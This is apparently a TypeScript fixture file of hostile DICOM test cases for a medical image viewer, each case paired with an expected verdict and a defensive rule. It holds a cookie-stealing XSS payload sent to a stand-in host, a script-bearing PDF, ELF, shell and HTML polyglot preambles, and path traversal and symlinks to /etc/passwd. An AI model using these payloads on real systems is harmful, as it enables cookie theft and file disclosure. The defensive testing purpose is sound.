/** Objects that are no plain image, files that are more than one thing, folders that hold more than files. */
import { type Expectation, fileCases, type HostileCase } from './case.ts'
import { type Attributes, element, elements, item, latin1, raw, sequence, uid, written } from './encode.ts'
import {
  comprehensiveSr,
  encapsulatedPdf,
  enhancedMr,
  file,
  good,
  image,
  mrImage,
  slice,
  syntaxes,
} from './image.ts'

/** An enhanced MR image whose frames are told apart by their delay after the R wave. */
function enhanced(frames: number, functionalGroups: number, name: string): Buffer {
  const shared = item(
    sequence('PlaneOrientationSequence', item(element('ImageOrientationPatient', '1\\0\\0\\0\\1\\0'))),
    sequence(
      'PixelMeasuresSequence',
      item(element('SliceThickness', '8'), element('PixelSpacing', '1.5\\1.5')),
    ),
  )
  const frame = (index: number): Buffer =>
    item(
      sequence('CardiacSynchronizationSequence', item(element('NominalCardiacTriggerDelayTime', index * 40))),
      sequence('PlanePositionSequence', item(element('ImagePositionPatient', '0\\0\\0'))),
    )
  const perFrame = Array.from({ length: functionalGroups }, (_, index) => frame(index))
  const attributes = image(
    {
      SOPClassUID: enhancedMr,
      NumberOfFrames: String(frames),
      ImagePositionPatient: undefined,
      ImageOrientationPatient: undefined,
      PixelSpacing: undefined,
      SharedFunctionalGroupsSequence: raw(sequence('SharedFunctionalGroupsSequence', shared)),
      PerFrameFunctionalGroupsSequence: raw(sequence('PerFrameFunctionalGroupsSequence', ...perFrame)),
      PixelData: written('OW', latin1('\0\x01'.repeat(256 * frames))),
    },
    name,
  )
  return file(attributes, { sopClass: enhancedMr })
}

const concept = (value: string, meaning: string): Buffer =>
  sequence(
    'ConceptNameCodeSequence',
    item(
      element('CodeValue', value),
      element('CodingSchemeDesignator', 'DCM'),
      element('CodeMeaning', meaning),
    ),
  )

function report(text: string, name: string, contentItems = 1): Buffer {
  const comment = item(
    element('RelationshipType', 'CONTAINS'),
    element('ValueType', 'TEXT'),
    concept('121106', 'Comment'),
    element('TextValue', text),
  )
  const attributes = image(
    {
      SOPClassUID: comprehensiveSr,
      Modality: 'SR',
      PixelData: undefined,
      ValueType: 'CONTAINER',
      ConceptNameCodeSequence: raw(concept('126000', 'Imaging Measurement Report')),
      ContinuityOfContent: 'SEPARATE',
      CompletionFlag: 'COMPLETE',
      VerificationFlag: 'UNVERIFIED',
      ContentSequence: raw(sequence('ContentSequence', ...Array<Buffer>(contentItems).fill(comment))),
    },
    name,
  )
  return file(attributes, { sopClass: comprehensiveSr })
}

function pdf(): Buffer {
  const document = '%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\n%%EOF\n'
  const attributes = image(
    {
      SOPClassUID: encapsulatedPdf,
      Modality: 'DOC',
      PixelData: undefined,
      EncapsulatedDocument: written('OB', document),
      MIMETypeOfEncapsulatedDocument: 'application/pdf',
    },
    'pdf',
  )
  return file(attributes, { sopClass: encapsulatedPdf })
}

const mediaStorageDirectory = '1.2.840.10008.1.3.10'

function directory(name: string, record: Attributes, firstRecord: number): Buffer {
  const header: Attributes = {
    FileSetID: 'FS',
    OffsetOfTheFirstDirectoryRecordOfTheRootDirectoryEntity: firstRecord,
    OffsetOfTheLastDirectoryRecordOfTheRootDirectoryEntity: firstRecord,
    FileSetConsistencyFlag: 0,
    DirectoryRecordSequence: raw(sequence('DirectoryRecordSequence', item(elements(record)))),
  }
  const options = { instance: uid(name), sopClass: mediaStorageDirectory, body: elements(header) }
  return file({}, options)
}

const imageRecord = (fileId: string): Attributes => ({
  OffsetOfTheNextDirectoryRecord: 0,
  RecordInUseFlag: 0xffff,
  OffsetOfReferencedLowerLevelDirectoryEntity: 0,
  DirectoryRecordType: 'IMAGE',
  ReferencedFileID: fileId,
  ReferencedSOPClassUIDInFile: mrImage,
  ReferencedSOPInstanceUIDInFile: uid('sopn'),
  ReferencedTransferSyntaxUIDInFile: syntaxes.explicit,
})

/** A record that is its own neighbour and its own child. */
export function directoryLoop(recordOffset: number): Buffer {
  const record: Attributes = {
    OffsetOfTheNextDirectoryRecord: recordOffset,
    RecordInUseFlag: 0xffff,
    OffsetOfReferencedLowerLevelDirectoryEntity: recordOffset,
    DirectoryRecordType: 'PATIENT',
  }
  return directory('dd2', record, recordOffset)
}

const preambled = (start: string, fill: string) => () =>
  file(image(), { preamble: latin1(start.padEnd(128, fill)) })

const oneDirectory = (id: string, why: string, rule: string, build: () => Buffer): HostileCase => ({
  id,
  expect: 'reject',
  why,
  rule,
  shownBy: 'file',
  files: () => ({ DICOMDIR: build() }),
})

const folder = (
  id: string,
  expect: Expectation,
  why: string,
  rule: string,
  files: HostileCase['files'],
): HostileCase => ({
  id,
  expect,
  why,
  rule,
  shownBy: 'folder',
  files,
})

export const objects: readonly HostileCase[] = [
  ...fileCases(
    [
      'O01-enhanced-mr',
      'accept',
      '4 frames, NominalCardiacTriggerDelayTime',
      'geometry from functional groups',
      () => enhanced(4, 4, 'enh'),
    ],
    ['O02-enhanced-mr-fg-short', 'reject', '3 per-frame items, 4 frames', '', () => enhanced(4, 3, 'enh2')],
    [
      'O03-sr-xss',
      'accept',
      'script in SR text',
      'textContent + CSP; dsr2html escapes',
      () =>
        report(
          '<script>fetch("http://127.0.0.1:9/"+document.cookie)</script><img src=x onerror=alert(1)>',
          'srx',
        ),
    ],
    ['O04-sr-100k-items', 'reject', '100,000 content items', 'limit', () => report('x', 'sr2', 100_000)],
    ['O05-encaps-pdf', 'quarantine', 'PDF with script', 'not opened by the app', pdf],
    [
      'O07-elf-polyglot',
      'accept+warn',
      'ELF header (ELFDICOM)',
      'same',
      preambled('\x7fELF\x02\x01\x01', '\0'),
    ],
    [
      'O08-shell-polyglot',
      'accept+warn',
      'shell script',
      'same',
      preambled('#!/bin/sh\necho pwned; exit\n', '\n'),
    ],
    ['O09-tiff-preamble', 'accept', 'dual TIFF (legal)', '', preambled('II*\0\x10\0\0\0', '\0')],
    [
      'O10-html-polyglot',
      'accept+warn',
      'HTML sniffing',
      'serve with application/dicom + nosniff + attachment',
      preambled('<html><script>alert(1)</script>', ' '),
    ],
  ),
  folder('O11-dicomdir-ok', 'accept', 'control', '', () => ({
    DICOMDIR: directory('dd', imageRecord('IM\\A'), 0),
    'IM/A': good(),
  })),
  oneDirectory('O12-dicomdir-traversal', '..', 'resolve, then check inside the root', () =>
    directory('dd', imageRecord('..\\..\\..\\etc\\passwd'), 0),
  ),
  oneDirectory('O13-dicomdir-absolute', 'drive path', '', () =>
    directory('dd', imageRecord('C:\\WINDOWS\\WIN.INI'), 0),
  ),
  oneDirectory('O15-dicomdir-loop', 'record points to itself', 'visited set', () => directoryLoop(380)),
  folder('O16-symlink-out', 'accept+warn', 'symlink in the folder', 'lstat, do not follow', () => ({
    'a.dcm': good(),
    'link.dcm': { linkTo: '/etc/passwd' },
  })),
  folder(
    'O17-folder-mixed',
    'accept+warn',
    '2 DICOM, 6 not',
    'by content, not by extension; report counts',
    () => ({
      'a.dcm': good(),
      'Thumbs.db': latin1(`\xd0\xcf\x11\xe0${'\0'.repeat(100)}`),
      '.DS_Store': latin1('\0\0\0\x01Bud1'),
      'readme.txt': latin1('hello'),
      'x.jpg': latin1('\xff\xd8\xff\xe0'),
      noext: file(slice(1)),
      'fake.dcm': latin1(`\x89PNG\r\n\x1a\n${'\0'.repeat(200)}`),
      VERSION: latin1('1'),
    }),
  ),
  folder('O18-fifo', 'accept+warn', 'named pipe', 'regular files only, else the scan hangs', () => ({
    'a.dcm': good(),
    'pipe.dcm': 'pipe',
  })),
]
